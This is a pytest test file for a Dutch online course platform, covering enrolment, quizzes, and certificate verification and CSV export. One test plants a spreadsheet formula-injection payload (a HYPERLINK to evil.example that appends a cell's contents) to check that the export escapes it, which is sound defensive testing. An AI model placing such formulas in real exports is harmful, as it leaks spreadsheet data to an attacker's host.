"""A learner enrols, works through lessons, fails then passes a quiz, and gets a certificate."""

import re

import pytest

from community.extensions import db
from courses.content import import_course
from courses.models import Attempt, Certificate, Course, Lesson, Quiz, QuizQuestion
from tests.helpers import csv_rows, page_text, post_form


@pytest.fixture
def course(app, course_folder):
    with app.app_context():
        import_course(course_folder)
        course = db.session.scalar(db.select(Course))
        lessons = db.session.scalars(db.select(Lesson).order_by(Lesson.position)).all()
        quiz = db.session.scalar(db.select(Quiz))
        return {"slug": course.slug, "lessons": [lesson.id for lesson in lessons], "quiz": quiz.id}


def question_keys(app):
    with app.app_context():
        return {q.key: q for q in db.session.scalars(db.select(QuizQuestion))}


def answers(app, attempt_id, *, right):
    """Form data answering every question of the attempt right (or all wrong)."""
    with app.app_context():
        attempt = db.session.get(Attempt, attempt_id)
        layout = attempt.layout
        questions = {q.id: q for q in db.session.scalars(db.select(QuizQuestion))}
    data = {}
    for entry in layout:
        question = questions[entry["question"]]
        name = f"q{question.id}"
        options = question.data.get("options", [])
        if question.kind in ("single", "true_false"):
            pick = [o["key"] for o in options if o["correct"] == right][0]
            data[name] = pick
        elif question.kind == "multiple":
            data[name + "[]"] = [o["key"] for o in options if o["correct"] == right]
        else:
            keys = [item["key"] for item in question.data["items"]]
            order = keys if right else list(reversed(keys))
            data[name + "-order"] = "1"
            for position, key in enumerate(order, start=1):
                data[f"{name}-{key}"] = str(position)
    return data


def start(client, course):
    url = f"/courses/{course['slug']}/quizzes/{course['quiz']}"
    response = post_form(client, f"{url}/attempts", page=url)
    assert response.status_code == 302, page_text(response)
    return int(response.headers["Location"].rsplit("/", 1)[1])


def submit(client, attempt_id, data):
    return post_form(client, f"/courses/attempts/{attempt_id}", data)


def test_learner_enrols_learns_fails_then_passes_and_gets_a_verifiable_certificate(
    app, client, login_as, course
):
    login_as("member", name="Noor de Wit")
    slug = course["slug"]
    assert "Inschrijven" in page_text(client.get(f"/courses/{slug}"))
    response = post_form(client, f"/courses/{slug}/enrol", page=f"/courses/{slug}")
    first_lesson = f"/courses/{slug}/lessons/{course['lessons'][0]}"
    assert response.headers["Location"] == first_lesson

    html = page_text(client.get(first_lesson))
    assert "Een signaal is iets wat je ziet" in html
    post_form(client, f"{first_lesson}/done", page=first_lesson)
    assert "33%" in page_text(client.get(f"/courses/{slug}"))
    second_lesson = f"/courses/{slug}/lessons/{course['lessons'][1]}"
    # "Continue where I left off" points at the lesson not yet done.
    assert f'href="{second_lesson}"' in page_text(client.get(f"/courses/{slug}"))
    post_form(client, f"{second_lesson}/done", page=second_lesson)

    attempt_id = start(client, course)
    response = submit(client, attempt_id, answers(app, attempt_id, right=False))
    result = page_text(client.get(response.headers["Location"]))
    assert "Nog niet gehaald" in result
    assert "Een vermoeden is geen feit." in result, "feedback on the chosen option"
    # The question's explanation tells the right answer: kept until the learner passes.
    assert "Feiten zijn controleerbaar." not in result

    attempt_id = start(client, course)
    response = submit(client, attempt_id, answers(app, attempt_id, right=True))
    result = page_text(client.get(response.headers["Location"]))
    assert "Gehaald" in result and "100%" in result

    mine = page_text(client.get("/courses/mine"))
    code = re.search(r"<code>([A-Z0-9]{4}-[A-Z0-9]{4}-[A-Z0-9]{4})</code>", mine).group(1)
    certificate = page_text(client.get(f"/certificates/{code}/print"))
    assert "Noor de Wit" in certificate and "Testcursus signalen" in certificate

    stranger = app.test_client()
    verified = stranger.get(f"/certificates/{code}")
    assert verified.status_code == 200
    html = page_text(verified)
    assert "Dit certificaat is geldig." in html and "Noor de Wit" in html
    assert "@verbind.example" not in html, "verification shows nothing else"
    assert stranger.get("/certificates/ABCD-EFGH-JKLM").status_code == 404

    csv_text = client.get("/courses/mine/certificates.csv").get_data(as_text=True)
    assert "Testcursus signalen" in csv_text and "SKJ" in csv_text and "1.5" in csv_text


def test_certificate_export_turns_formulas_into_text(app, client, login_as, course):
    user_id = login_as("member")
    hostile = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
    with app.app_context():
        db.session.add(
            Certificate(
                code="ABCD-EFGH-JKLM",
                user_id=user_id,
                course_id=db.session.scalar(db.select(Course.id)),
                holder_name="Lotte Smit",
                course_title=hostile,
                accreditation_body="@SKJ",
                accreditation_points=1.5,
            )
        )
        db.session.commit()
    header, row = csv_rows(client.get("/courses/mine/certificates.csv"))
    assert header[0] == "Cursus"
    assert [row[0], row[2], row[3], row[4]] == ["'" + hostile, "'@SKJ", "1.5", "ABCD-EFGH-JKLM"]


def test_quiz_page_holds_no_answers_or_feedback(app, client, login_as, course):
    login_as("member")
    post_form(client, f"/courses/{course['slug']}/enrol", page=f"/courses/{course['slug']}")
    attempt_id = start(client, course)
    html = page_text(client.get(f"/courses/attempts/{attempt_id}"))
    assert "Wat leg je vast in het dossier?" in html
    assert "correct" not in html.lower()
    assert "Juist, dat is controleerbaar." not in html
    assert "Een vermoeden is geen feit." not in html
    assert "Feiten zijn controleerbaar." not in html


def test_submissions_that_do_not_fit_the_attempt_are_refused(app, client, login_as, course):
    login_as("member")
    post_form(client, f"/courses/{course['slug']}/enrol", page=f"/courses/{course['slug']}")
    attempt_id = start(client, course)
    data = answers(app, attempt_id, right=True)
    single = next(
        name
        for name, value in data.items()
        if isinstance(value, str)
        and len(value) == 1
        and not name.endswith("-order")
        and "-" not in name
    )
    tampered = {**data, single: "z"}
    response = submit(client, attempt_id, tampered)
    assert response.status_code == 400
    assert "Je antwoorden passen niet bij deze poging" in page_text(response)

    other = app.test_client()
    from tests.helpers import log_in, make_user

    with app.app_context():
        email = make_user(email="ander@verbind.example").email
    log_in(other, email)
    assert (
        post_form(other, f"/courses/attempts/{attempt_id}", data, page="/courses/").status_code
        == 403
    )

    assert submit(client, attempt_id, data).status_code == 302
    response = submit(client, attempt_id, data)
    assert response.status_code == 409
    assert "al ingeleverd" in page_text(response)


def test_attempts_are_limited(app, client, login_as, course):
    login_as("member")
    post_form(client, f"/courses/{course['slug']}/enrol", page=f"/courses/{course['slug']}")
    for _ in range(3):
        attempt_id = start(client, course)
        submit(client, attempt_id, answers(app, attempt_id, right=False))
    url = f"/courses/{course['slug']}/quizzes/{course['quiz']}"
    response = post_form(client, f"{url}/attempts", page=url, follow_redirects=True)
    assert "Je hebt alle pogingen voor deze toets gebruikt." in page_text(response)


def test_lessons_need_enrolment_and_login(app, client, login_as, course):
    lesson = f"/courses/{course['slug']}/lessons/{course['lessons'][0]}"
    assert client.get(lesson).status_code == 302
    login_as("member")
    response = client.get(lesson)
    assert response.status_code == 302 and response.headers["Location"].endswith(course["slug"])
    assert client.get("/courses/").status_code == 200


def test_two_items_on_one_place_is_explained_and_answers_are_kept(app, client, login_as, course):
    login_as("member")
    post_form(client, f"/courses/{course['slug']}/enrol", page=f"/courses/{course['slug']}")
    attempt_id = start(client, course)
    data = answers(app, attempt_id, right=True)
    place_fields = [name for name in data if re.match(r"q\d+-[a-z]$", name)]
    for name in place_fields:
        data[name] = "1"
    response = submit(client, attempt_id, data)
    html = page_text(response)
    assert response.status_code == 422, re.findall(r"<main.*?</h1>", html, re.S)
    assert "Geef elk onderdeel van een volgordevraag een eigen plaats." in html
    radio = next(name for name, value in data.items() if re.fullmatch(r"q\d+", name))
    assert re.search(rf'name="{radio}" value="{data[radio]}" checked', html)
    with app.app_context():
        assert db.session.get(Attempt, attempt_id).is_open
